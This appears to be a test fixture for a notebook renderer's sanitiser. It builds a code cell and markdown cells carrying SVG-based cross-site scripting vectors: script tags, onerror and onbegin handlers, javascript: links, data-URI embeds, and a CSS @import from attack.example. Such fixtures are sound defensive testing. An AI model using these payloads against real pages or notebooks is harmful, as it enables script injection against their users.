"""Draws SVG that runs: scripts, foreign HTML, animated links, references, and pictures with scripts in them."""

CELL = """\
import base64
from IPython.display import display
won = "document.title='attack'+'-won'"
drawings = (
    f"<svg xmlns='http://www.w3.org/2000/svg'><script>{won}</script></svg>",
    f"<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><img src=x onerror={won}></body></foreignObject></svg>",
    f"<svg><a xlink:href='javascript:{won}'><text y=20>click</text></a></svg>",
    "<svg><a><animate attributeName=href values='javascript:alert(1)'/><text y=20>click</text></a></svg>",
    f"<svg><animate onbegin={won} attributeName=x dur=1s></svg>",
    f"<svg><set attributeName=onmouseover to={won}></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{won}</script></svg>#x'></use></svg>",
    f"<svg><image href=x onerror={won}></svg>",
)
for drawing in drawings:
    display({"text/html": drawing}, raw=True)
    display({"image/svg+xml": drawing}, raw=True)
    data = base64.b64encode(drawing.encode()).decode()
    for tag in ("img src", "embed src", "object data", "iframe src"):
        display({"text/html": f"<{tag}='data:image/svg+xml;base64,{data}'>"}, raw=True)
"""
SCALE = "honest"
EXPECTED = 10


def edit(notebook):
    texts = (
        "<svg><script>document.title='attack'+'-won'</script></svg>",
        "<svg/onload=\"document.title='attack'+'-won'\">",
        "<svg><style>@import 'https://attack.example/c'; body{display:none}</style></svg>",
        "![x](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=)",
    )
    for number, text in enumerate(texts):
        notebook["cells"].append({"cell_type": "markdown", "id": f"svg{number}", "metadata": {}, "source": text})
